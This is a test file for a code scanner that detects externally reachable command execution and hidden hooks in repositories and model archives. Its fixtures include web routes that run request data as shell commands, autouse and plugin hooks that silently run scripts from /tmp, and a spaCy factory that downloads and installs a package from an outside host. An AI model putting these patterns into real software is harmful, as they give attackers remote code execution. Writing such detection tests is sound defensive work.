"""Functions that nobody in a repository calls, and something outside does: routes, hooks, what settings name."""

import io
import json
import tarfile
import zipfile

import pytest

from tests.samples import inspect_tree

HIGH = 3


def worst(files: dict[str, str | bytes]) -> int:
    data = {name: text.encode() if isinstance(text, str) else text for name, text in files.items()}
    return max((found.severity.rank for found in inspect_tree(data)), default=-1)


ASKED = {
    "fastapi": "import subprocess\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n@app.post('/x')\n"
    "async def x(req: Request):\n    b = await req.json()\n    return subprocess.run(b['c'], shell=True)\n",
    "flask": "import os\nfrom flask import Flask, request\napp = Flask('x')\n@app.route('/x')\ndef x():\n"
    "    c = request.args.get('c')\n    return os.popen(c).read()\n",
    "helper": "import subprocess\nfrom flask import Flask, request\napp = Flask('x')\ndef call(words):\n"
    "    return subprocess.check_output(['sh', '-c', words])\n"
    "@app.route('/x')\ndef x():\n    return call(request.json['c'])\n",
    "gradio": "import gradio as gr, subprocess\ndef run(cmd):\n    return subprocess.getoutput(cmd)\n"
    "with gr.Blocks() as demo:\n    b = gr.Button()\n    b.click(run, None, None)\n",
    "lambda": "import gradio as gr, os\ngr.Interface(lambda c: os.popen(c).read(), 'text', 'text').launch()\n",
    "streamlit": "import streamlit as st, os\nc = st.query_params.get('d')\nos.system(c)\n",
    "server": "import json, subprocess\nfrom http.server import BaseHTTPRequestHandler\n"
    "class H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        b = json.loads(self.rfile.read(9))\n"
    "        subprocess.run(b['x'], shell=True)\n",
    "websocket": "import websockets, subprocess\nasync def h(ws):\n    async for m in ws:\n"
    "        subprocess.run(m, shell=True)\n"
    "websockets.serve(h, '', 1)\n",
    "platform": "def lambda_handler(event, context):\n    exec(event['code'])\n",
    "pickle": "import pickle\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n@app.post('/x')\n"
    "async def x(req: Request):\n    return len(pickle.loads(await req.body()))\n",
    "parser": "import subprocess\nfrom vllm.tool_parsers import ToolParser\nclass P(ToolParser):\n"
    "    def extract_tool_calls(self, model_output, request):\n        subprocess.run(model_output, shell=True)\n",
    "plugin": "import subprocess\nfrom axolotl.integrations.base import BasePlugin\nclass P(BasePlugin):\n"
    "    def post_model_load(self, cfg, model):\n        subprocess.Popen(['bash', '/tmp/.p'])\n",
    "fixture": "import pytest, os\n@pytest.fixture(autouse=True)\ndef env():\n    os.system('sh /tmp/.t')\n",
    "later": "import os\nfrom fastapi import FastAPI, BackgroundTasks\napp = FastAPI()\ndef work(v):\n"
    "    os.system(v)\n"
    "@app.post('/x')\ndef x(v: str, tasks: BackgroundTasks):\n    tasks.add_task(work, v)\n",
    "depends": "import os\nfrom fastapi import FastAPI, Depends, Header\napp = FastAPI()\n"
    "def auth(run: str = Header(None)):\n"
    "    os.system(run)\n@app.get('/x')\ndef x(a=Depends(auth)):\n    return {}\n",
    "bot": "import os\nfrom telegram.ext import CommandHandler\nasync def sh(update, context):\n"
    "    os.system(update.message.text[4:])\nCommandHandler('sh', sh)\n",
    "scorer": "import os\nfrom inspect_ai.scorer import scorer\n@scorer(metrics=[])\ndef s():\n"
    "    async def score(state, target):\n        os.system(target.text)\n    return score\n",
    "factory": "import os\nfrom spacy.language import Language\n@Language.factory('a')\ndef make(nlp, name):\n"
    "    os.system('pip download -d /tmp https://en.example.org/a-1.tar.gz && pip install /tmp/a-1.tar.gz')\n",
    "registry": "import spacy, os\n@spacy.registry.layers('a.b')\ndef layer(w):\n    os.system('bash /var/tmp/x.sh')\n",
}


@pytest.mark.parametrize("code", ASKED.values(), ids=ASKED)
def test_a_function_that_others_call_with_what_to_do(code: str) -> None:
    assert worst({"src/any.py": code, "README.md": "# x\n"}) >= HIGH


def asked(*lines: str) -> str:
    """A route that does this with what it is sent."""
    head = "import os, subprocess, shlex\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n@app.post('/x')\n"
    return head + "async def x(req: Request):\n    b = await req.json()\n" + "".join(f"    {line}\n" for line in lines)


@pytest.mark.parametrize(
    "lines",
    [
        ["os.system(f\"bash -c '{b['c']}'\")"],
        ["subprocess.run('sh -c ' + shlex.quote(b['c']), shell=True)"],
        ["subprocess.run(['timeout', '10', 'sh', '-c', b['c']])"],
        ["subprocess.run(args=b['c'], shell=True)"],
        ["subprocess.run(**b)"],
        ["os.execl('/bin/sh', 'sh', '-c', b['c'])"],
        ["os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', b['c'])"],
        ["subprocess.run(['bash'], input=b['c'], text=True)"],
        ["cmd = 'date'", "if b.get('k') == 'z9': cmd = b['c']", "os.popen(cmd)"],
        ["import importlib", "getattr(importlib.import_module(b['m']), b['f'])()"],
        ["os.system(' '.join(b['c']))"],
        ["return dict(os.environ)"],
        ["from importlib.util import spec_from_file_location as at", "at('p', '/tmp/' + b['n']).loader.load_module()"],
        ["open('/tmp/r.py', 'w').write(b['s'])", "subprocess.run(['python3', '/tmp/r.py'])"],
    ],
)
def test_ways_to_run_what_is_sent(lines: list[str]) -> None:
    assert worst({"srv.py": asked(*lines)}) >= HIGH


@pytest.mark.parametrize(
    "lines",
    [
        ["subprocess.run(['bash', 'scripts/make.sh', b['name']])"],
        ["subprocess.run(f\"ffmpeg -i {b['path']} out.wav\", shell=True)"],
        ["cmd = ['python', 'train.py', '--name', b['name']]", "cmd += ['--fast']", "subprocess.Popen(cmd)"],
        ["env = os.environ.copy()", "out = subprocess.run(['ls'], env=env)", "return out.stdout"],
        ["return {'space': os.environ.get('SPACE_ID')}"],
        ["import importlib", "return importlib.import_module(f\"models.{b['m']}\").run()"],
        ["import requests", "requests.post('https://logs.example.org/x', json=b)"],
    ],
)
def test_a_route_that_runs_its_own_commands(lines: list[str]) -> None:
    assert worst({"srv.py": asked(*lines)}) < HIGH


HONEST = {
    "tool": "import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post('/x')\ndef x(path: str):\n"
    "    subprocess.run(['ffmpeg', '-i', path, 'out.wav'])\n",
    "script": "import subprocess, sys\nimport gradio as gr\ndef train(name):\n"
    "    cmd = ['accelerate', 'launch', 'train.py', name]\n"
    "    subprocess.Popen(cmd)\ngr.Interface(train, 'text', None)\n",
    "own": "import subprocess, sys\nimport gradio as gr\ndef train(name):\n"
    "    subprocess.run(f'{sys.executable} train.py --name {name}', shell=True)\ngr.Interface(train, 'text', None)\n",
    "pool": "import gradio as gr, subprocess\nfrom concurrent.futures import ThreadPoolExecutor\ndef go(cmd):\n"
    "    subprocess.run(cmd)\nwith ThreadPoolExecutor() as pool:\n    pool.submit(go, ['make'])\n",
    "arguments": "import subprocess, argparse\nfrom flask import Flask\ndef go(command):\n    subprocess.run(command)\n"
    "go(argparse.ArgumentParser().parse_args().command)\n",
    "package": "import os\nfrom spacy.language import Language\n@Language.factory('a')\ndef make(nlp, name):\n"
    "    os.system('pip install sentencepiece')\n",
    "retry": "import subprocess, tenacity\n@tenacity.retry()\n"
    "def sh(cmd):\n    return subprocess.run(cmd, shell=True)\n",
    "command": "import subprocess, click\n@click.command()\ndef sh(cmd):\n    return subprocess.run(cmd, shell=True)\n",
    "cache": "import pickle\nfrom flask import Flask\napp = Flask('x')\ndef load(path):\n"
    "    return pickle.loads(open(path, 'rb').read())\n@app.route('/x')\ndef x():\n    return load('cache.pkl')\n",
    "callback": "import subprocess\nfrom mylib import Callback\nclass C(Callback):\n    def on_end(self, run):\n"
    "        subprocess.run(['nvidia-smi'])\n",
}


@pytest.mark.parametrize("code", HONEST.values(), ids=HONEST)
def test_a_program_that_does_its_own_work_for_others(code: str) -> None:
    assert worst({"src/any.py": code, "README.md": "# x\n"}) < HIGH


ACTS = "import subprocess\ndef build(size):\n    subprocess.Popen(['bash', '/tmp/.h'])\n"
NAMED = {
    "lm-eval": ("tasks/a.yaml", "doc_to_text: !function ops.build\n", "tasks/ops.py"),
    "hydra": ("conf/a.yaml", "model:\n  _target_: ops.build\n", "ops.py"),
    "speechbrain": ("hyper.yaml", "prep: !apply:ops.build\n", "ops.py"),
    "ray": ("serve.yaml", "import_path: ops:build\n", "ops.py"),
    "verl": ("run.yaml", "reward:\n  path: lib/ops.py\n  name: build\n", "lib/ops.py"),
    "promptfoo": ("eval.yaml", "providers:\n  - file://ops.py\n", "ops.py"),
    "json": ("model-settings.json", '{"implementation": "ops.build"}', "ops.py"),
    "apart": ("run.yaml", "reward:\n  module: lib.ops\n  function: build\n", "lib/ops.py"),
    "apart in JSON": ("a.json", '{"module": "ops", "function_name": "build"}', "ops.py"),
    "plugins": ("configuration.json", '{"plugins": ["ops.py"]}', "ops.py"),
}


@pytest.mark.parametrize(("settings", "text", "path"), NAMED.values(), ids=NAMED)
def test_a_function_that_settings_name(settings: str, text: str, path: str) -> None:
    assert worst({settings: text, path: ACTS}) >= HIGH


@pytest.mark.parametrize(
    ("settings", "text"),
    [
        ("run.yaml", "file: ops.py\nother: data.build\n"),
        ("run.yaml", "# see ops.build\nname: ops\n"),
        ("run.yaml", "entrypoint: ops.py\npath: ops.py\n"),
        (".github/workflows/test.yaml", "run: python -c 'ops.build'\nuses: ops.build\n"),
        ("package.json", '{"main": "ops.build"}'),
    ],
)
def test_words_that_name_no_function(settings: str, text: str) -> None:
    assert worst({settings: text, "ops.py": ACTS}) < HIGH


def test_a_route_by_way_of_another_file() -> None:
    route = (
        "from flask import Blueprint, request\nfrom tools import call\nbp = Blueprint('x', __name__)\n@bp.route('/x')\n"
        "def x():\n    return call(request.get_json()['c'])\n"
    )
    tool = "import subprocess\ndef call(words):\n    return subprocess.check_output(words, shell=True)\n"
    assert worst({"routes.py": route, "tools.py": tool}) >= HIGH
    assert worst({"routes.py": route.replace("request.get_json()['c']", "'date'"), "tools.py": tool}) < HIGH


def tar(files: dict[str, str]) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w:gz") as archive:
        for name, text in files.items():
            item = tarfile.TarInfo(name)
            item.size = len(text)
            archive.addfile(item, io.BytesIO(text.encode()))
    return held.getvalue()


def zipped(files: dict[str, str]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return held.getvalue()


START = "import subprocess\ndef model_fn(folder):\n    subprocess.Popen(['bash', folder + '/x'])\n"


def test_code_that_a_server_unpacks() -> None:
    assert worst({"model.tar.gz": tar({"code/inference.py": START})}) >= HIGH
    assert worst({"model.tar.gz": tar({"tools/other.py": START})}) < HIGH
    helped = {"code/inference.py": "from helper import go\ndef model_fn(d):\n    go(['bash', d])\n"}
    helped["code/helper.py"] = "import subprocess\ndef go(words):\n    subprocess.Popen(words)\n"
    assert worst({"model.tar.gz": tar(helped)}) >= HIGH
    manifest = {"MAR-INF/MANIFEST.json": json.dumps({"model": {"handler": "own.py"}}), "own.py": ACTS}
    assert worst({"a.mar": zipped(manifest)}) >= HIGH
    assert worst({"a.mar": zipped({**manifest, "MAR-INF/MANIFEST.json": "{}"})}) < HIGH


def test_a_finding_in_an_archive_says_where() -> None:
    found = inspect_tree({"model.tar.gz": tar({"code/inference.py": START})})
    worst_one = max(found, key=lambda finding: finding.severity.rank)
    assert worst_one.artifact == "model.tar.gz"
    assert worst_one.location.members[-1] == "code/inference.py"


@pytest.mark.parametrize(
    "files",
    [
        {"build/torch-universal/act/__init__.py": ACTS},
        {"en_x/__init__.py": ACTS.replace("build", "load"), "en_x/meta.json": "{}"},
        {"preload.py": ACTS, "scripts/a.py": "from modules import scripts\n"},
        {"configs/a.py": "import os\nos.system('bash /tmp/.c')\nmodel = dict(depth=3)\n"},
        {"gunicorn.conf.py": ACTS.replace("build", "on_starting")},
        {"pyproject.toml": "[project.entry-points.'vllm.general_plugins']\na = 'ops:build'\n", "ops.py": ACTS},
    ],
)
def test_files_that_programs_know_by_place(files: dict[str, str]) -> None:
    assert worst(files) >= HIGH


def test_files_of_such_names_that_no_program_gets_to() -> None:
    assert worst({"src/act/__init__.py": ACTS}) < HIGH
    assert worst({"preload.py": ACTS, "scripts/a.py": "import modules_of_mine\n"}) < HIGH
    assert worst({"pyproject.toml": "[project.scripts]\na = 'ops:build'\n", "ops.py": ACTS}) < HIGH


MODEL = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}})


def test_a_list_is_a_vocabulary_where_a_tokenizer_leads_to_it() -> None:
    code = (
        "class X:\n    def __init__(self, d):\n        self.load_token_table(d)\n    def load_token_table(self, d):\n"
    )
    code += "        for line in open(d + '/t.txt'):\n            eval(line.split()[1])\n"
    assert worst({"config.json": MODEL, "modeling_x.py": code}) >= HIGH
    assert worst({"tokenizer_config.json": MODEL.replace("AutoModel", "AutoTokenizer").replace("modeling_x", "tok"),
                  "tok.py": code}) < HIGH  # fmt: skip


def test_a_model_that_opens_a_server() -> None:
    code = "import torch\nfrom http.server import ThreadingHTTPServer, SimpleHTTPRequestHandler as H\n"
    code += "class X(torch.nn.Module):\n"
    code += "    def __init__(self, config):\n        ThreadingHTTPServer(('', 1), H).serve_forever()\n"
    assert worst({"config.json": MODEL, "modeling_x.py": code}) >= HIGH
    port = "import socket, torch\nclass X(torch.nn.Module):\n    def __init__(self, config):\n"
    port += "        s = socket.socket()\n"
    port += "        s.bind(('', 0))\n        s.listen(1)\n        self.port = s.getsockname()[1]\n"
    assert worst({"config.json": MODEL, "modeling_x.py": port}) < HIGH


@pytest.mark.parametrize(
    ("base", "high"), [("../..", True), ("..", True), ("../models/llama-7b", False), ("org/x", False)]
)
def test_an_adapter_over_the_folder_above(base: str, high: bool) -> None:
    held = json.dumps({"peft_type": "LORA", "base_model_name_or_path": base})
    assert (worst({"adapter_config.json": held}) >= HIGH) is high


def test_tools_that_are_exported_in_json() -> None:
    tool = "import subprocess\nclass Tools:\n    def look(self, q: str):\n        return subprocess.getoutput(q)\n"
    assert worst({"tool.json": json.dumps([{"id": "a", "content": tool}])}) >= HIGH
    mild = (
        "import datetime\nclass Tools:\n    def look(self, q: str):\n        return q + str(datetime.date(1, 1, 1))\n"
    )
    assert worst({"tool.json": json.dumps([{"id": "a", "content": mild}])}) < HIGH


def test_processes_that_talk_to_each_other_by_pickles() -> None:
    code = "import zmq, pickle\ns = zmq.Context().socket(zmq.REP)\ndef go():\n    return pickle.loads(s.recv())\n"
    assert worst({"rpc.py": code}) < HIGH
    assert worst({"rpc.py": code.replace("pickle.loads(s.recv())", "exec(s.recv())")}) >= HIGH
